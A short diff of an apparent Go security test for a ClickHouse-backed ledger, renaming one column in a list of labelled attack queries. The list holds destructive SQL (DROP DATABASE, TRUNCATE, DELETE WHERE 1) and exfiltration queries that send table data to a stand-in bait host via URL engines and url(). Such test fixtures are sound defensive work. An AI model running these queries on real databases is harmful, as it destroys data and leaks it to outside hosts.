@@ -146,7 +146,7 @@ func (to target) stolen() map[string]string {
 		"a database dropped":          "DROP DATABASE ledgerline",
 		"a table emptied":             "TRUNCATE TABLE ledgerline.events",
 		"rows deleted":                "ALTER TABLE ledgerline.events DELETE WHERE 1",
-		"rows inserted":               "INSERT INTO ledgerline.projector_position (projector, saved, through) VALUES ('projector', 99999999, 99999999)",
+		"rows inserted":               "INSERT INTO ledgerline.projector_position (projector, saved, applied) VALUES ('projector', 99999999, 99999999)",
 		"a table elsewhere":           fmt.Sprintf("CREATE TABLE default.t (a String) ENGINE = URL('http://%s/', 'CSV')", to.Bait),
 		"a database elsewhere":        fmt.Sprintf("CREATE DATABASE s ENGINE = SQLite('%s')", file("vault.db")),
 		"events sent by url()":        fmt.Sprintf("DESCRIBE TABLE url(concat('http://%s/', %s), 'CSV')", to.Bait, one),
